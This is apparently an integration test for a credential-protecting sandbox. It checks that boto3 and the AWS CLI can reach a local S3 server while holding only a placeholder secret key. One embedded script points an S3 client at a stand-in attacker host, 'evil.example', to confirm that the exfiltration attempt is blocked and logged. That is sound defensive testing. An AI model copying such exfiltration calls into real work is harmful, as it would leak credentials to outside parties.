//! AWS SigV4 re-signing end to end: boto3 and the AWS CLI inside a sandbox whose
//! `AWS_SECRET_ACCESS_KEY` is a placeholder, against a real S3 server that checks every
//! signature (moto in server mode, TLS, in the fake internet at
//! `s3.eu-west-1.amazonaws.com:9443`). The server's own IAM issues the access key; a request
//! signed with the placeholder is shown to fail there (`SignatureDoesNotMatch`), so every
//! success below is the boundary's signature with the real key.

mod support;

use std::process::{Child, Command, Stdio};
use support::*;

const S3_HOST: &str = "s3.eu-west-1.amazonaws.com";
const S3_PORT: u16 = 9443;
const PH: &str = "$MSB_AWS_SECRET_ACCESS_KEY";

/// moto's server in the fake internet, and the credential its IAM issued.
struct S3Server {
    child: Child,
    key_id: String,
    secret: String,
}

impl Drop for S3Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Start moto on `AWS_V4:9443` with the fixture's certificate, create a user with an access
/// key and a bucket, and check that a signature made with the placeholder is refused.
fn s3_server(net: &FakeInternet) -> S3Server {
    let pki = net.pki_dir();
    let port = S3_PORT.to_string();
    let leaf = pki.join("leaf.pem");
    let key = pki.join("leaf.key");
    let mut child = Command::new("ip")
        .args([
            "netns",
            "exec",
            &net.inet,
            "/usr/bin/python3",
            "-m",
            "moto.server",
        ])
        .args(["-H", AWS_V4, "-p", &port])
        .arg("-c")
        .arg(&leaf)
        .arg("-k")
        .arg(&key)
        // The first three requests (the IAM setup below) need no signature; every later one
        // is checked against the users and keys of moto's IAM.
        .env("INITIAL_NO_AUTH_ACTION_COUNT", "3")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start moto (pip install 'moto[server]', see .ci/run)");
    let setup = format!(
        r#"
import socket, time, boto3, botocore
for _ in range(300):
    try:
        socket.create_connection(("{AWS_V4}", {S3_PORT}), timeout=1).close(); break
    except OSError:
        time.sleep(0.05)
ep = "https://{AWS_V4}:{S3_PORT}"
iam = boto3.client("iam", endpoint_url=ep, region_name="us-east-1", aws_access_key_id="x", aws_secret_access_key="y")
iam.create_user(UserName="agent")
k = iam.create_access_key(UserName="agent")["AccessKey"]
iam.put_user_policy(UserName="agent", PolicyName="all", PolicyDocument='{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Action":"*","Resource":"*"}}]}}')
cfg = botocore.config.Config(s3={{"addressing_style": "path"}}, retries={{"max_attempts": 1}})
s3 = lambda secret: boto3.client("s3", endpoint_url=ep, region_name="eu-west-1", aws_access_key_id=k["AccessKeyId"], aws_secret_access_key=secret, config=cfg)
s3(k["SecretAccessKey"]).create_bucket(Bucket="standin-test", CreateBucketConfiguration={{"LocationConstraint": "eu-west-1"}})
try:
    s3("{PH}").list_buckets(); print("UNCHECKED")
except botocore.exceptions.ClientError as e:
    print("placeholder:", e.response["Error"]["Code"])
print(k["AccessKeyId"]); print(k["SecretAccessKey"])
"#
    );
    let out = net.in_inet(&[
        "env",
        &format!("AWS_CA_BUNDLE={}", net.ca_file().display()),
        "/usr/bin/python3",
        "-c",
        &setup,
    ]);
    let text = stdout(&out);
    let lines: Vec<&str> = text.lines().collect();
    if !out.status.success() || lines.len() < 3 {
        let _ = child.kill();
        panic!("moto setup failed:\n{text}\n{}", stderr(&out));
    }
    assert_eq!(
        lines[0], "placeholder: SignatureDoesNotMatch",
        "the S3 server must check signatures"
    );
    S3Server {
        child,
        key_id: lines[1].to_owned(),
        secret: lines[2].to_owned(),
    }
}

/// boto3 in the sandbox: list, small put and get, a multipart upload of 12 MiB (botocore's
/// default for uploads: unsigned streaming with a checksum trailer), then the same client
/// pointed at another host.
const BOTO: &str = r#"
import hashlib, io, os, boto3, botocore
from boto3.s3.transfer import TransferConfig
cfg = botocore.config.Config(s3={"addressing_style": "path"}, retries={"max_attempts": 1}, connect_timeout=5, read_timeout=10)
s3 = boto3.client("s3", endpoint_url=os.environ["S3_ENDPOINT"], config=cfg)
print("buckets", [b["Name"] for b in s3.list_buckets()["Buckets"]])
s3.put_object(Bucket="standin-test", Key="dir/small key.txt", Body=b"hello through the boundary")
print("small", s3.get_object(Bucket="standin-test", Key="dir/small key.txt")["Body"].read().decode())
data = os.urandom(12 * 1024 * 1024)
s3.upload_fileobj(io.BytesIO(data), "standin-test", "big.bin", Config=TransferConfig(multipart_threshold=5 * 1024 * 1024, multipart_chunksize=5 * 1024 * 1024))
back = s3.get_object(Bucket="standin-test", Key="big.bin")["Body"].read()
print("multipart", hashlib.sha256(back).hexdigest() == hashlib.sha256(data).hexdigest(), len(back))
evil = boto3.client("s3", endpoint_url="https://evil.example", config=cfg)
try:
    evil.list_buckets(); print("evil: answered")
except Exception as e:
    print("evil: failed", type(e).__name__)
"#;

/// The AWS CLI in the sandbox: list, copy up, copy down.
const CLI: &str = r#"
printf '[default]\ns3 =\n    addressing_style = path\n' > /tmp/aws-config
export AWS_CONFIG_FILE=/tmp/aws-config
echo "from the aws cli" > /tmp/up.txt
/usr/local/bin/aws --endpoint-url "$S3_ENDPOINT" s3 ls && \
/usr/local/bin/aws --endpoint-url "$S3_ENDPOINT" s3 cp /tmp/up.txt s3://standin-test/cli.txt && \
echo "cli-get: $(/usr/local/bin/aws --endpoint-url "$S3_ENDPOINT" s3 cp s3://standin-test/cli.txt -)"
"#;

#[test]
#[ignore = "needs root (network namespaces); .ci/run runs it"]
fn boto3_and_the_aws_cli_work_with_a_placeholder_secret_key() {
    let net = FakeInternet::with_http(&[80], &[443]);
    let server = s3_server(&net);
    let endpoint = format!("S3_ENDPOINT=https://{S3_HOST}:{S3_PORT}");
    let key_env = format!("AWS_ACCESS_KEY_ID={}", server.key_id);
    let run = SecretRun::new(&net, &[("AWS_SECRET_ACCESS_KEY", &server.secret)])
        .secret(&format!("AWS_SECRET_ACCESS_KEY@{S3_HOST}"))
        .args(&[
            "--secret-aws-key-id",
            &format!("AWS_SECRET_ACCESS_KEY={}", server.key_id),
            "--upstream-ca",
            &net.ca_file().display().to_string(),
            "--env",
            &key_env,
            "--env",
            "AWS_DEFAULT_REGION=eu-west-1",
            "--env",
            &endpoint,
        ])
        .logged();
    let script = format!(
        "echo \"key=$AWS_SECRET_ACCESS_KEY\"; python3 -c '{}'; {CLI}",
        BOTO.replace('\'', "'\\''")
    );
    let out = run.run(&script);
    let text = stdout(&out);
    let report = format!("{}\n--- events\n{}", report(&out, &net), run.events.read());
    assert!(text.contains(&format!("key={PH}")), "{report}");
    assert!(!text.contains(&server.secret), "{report}");
    assert!(text.contains("buckets ['standin-test']"), "{report}");
    assert!(
        text.contains("small hello through the boundary"),
        "{report}"
    );
    assert!(text.contains("multipart True 12582912"), "{report}");
    assert!(text.contains("evil: failed"), "{report}");
    assert!(text.contains("cli-get: from the aws cli"), "{report}");
    // The other host received nothing at all, and the attempt is recorded.
    let evil = net.received_at(EVIL_V4);
    assert!(evil.is_empty(), "evil.example received:\n{evil}");
    let events = run.events.read();
    assert!(
        events.contains("secret-violation") && events.contains("AWS_SECRET_ACCESS_KEY"),
        "{events}"
    );
}
